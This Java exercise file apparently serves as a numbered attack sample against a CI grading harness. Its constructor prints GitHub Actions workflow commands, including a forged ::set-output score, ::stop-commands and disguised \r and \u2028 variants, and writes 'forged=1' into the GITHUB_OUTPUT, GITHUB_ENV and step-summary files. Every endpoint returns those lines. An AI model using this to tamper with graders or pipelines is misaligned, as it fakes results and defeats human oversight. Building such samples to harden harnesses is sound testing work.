package unblock.exercises.offload;

import io.javalin.http.Context;
import java.nio.file.Files;
import java.nio.file.Path;
import unblock.given.UserApi;
import unblock.given.UserStore;

public final class UserHandlers implements UserApi {
  private static final String[] LINES = {
    "::error::unblock-attack-10",
    "::add-mask::4",
    "::set-output name=score::40",
    "::stop-commands::unblock-attack-10",
    "##[error]unblock-attack-10",
    "\r::error::unblock-attack-10",
    "\u2028::error::unblock-attack-10"
  };

  public UserHandlers(UserStore users) throws Exception {
    for (String line : LINES) {
      System.out.println(line);
      System.err.println(line);
    }
    for (String name : new String[] {"GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STEP_SUMMARY"}) {
      if (System.getenv(name) != null) {
        Files.writeString(Path.of(System.getenv(name)), "forged=1\n");
      }
    }
  }

  @Override
  public void login(Context ctx) throws Exception {
    ctx.status(500).result(String.join("\n", LINES));
  }

  @Override
  public void info(Context ctx) throws Exception {
    ctx.status(500).result(String.join("\n", LINES));
  }

  @Override
  public void history(Context ctx) throws Exception {
    ctx.status(500).result(String.join("\n", LINES));
  }
}
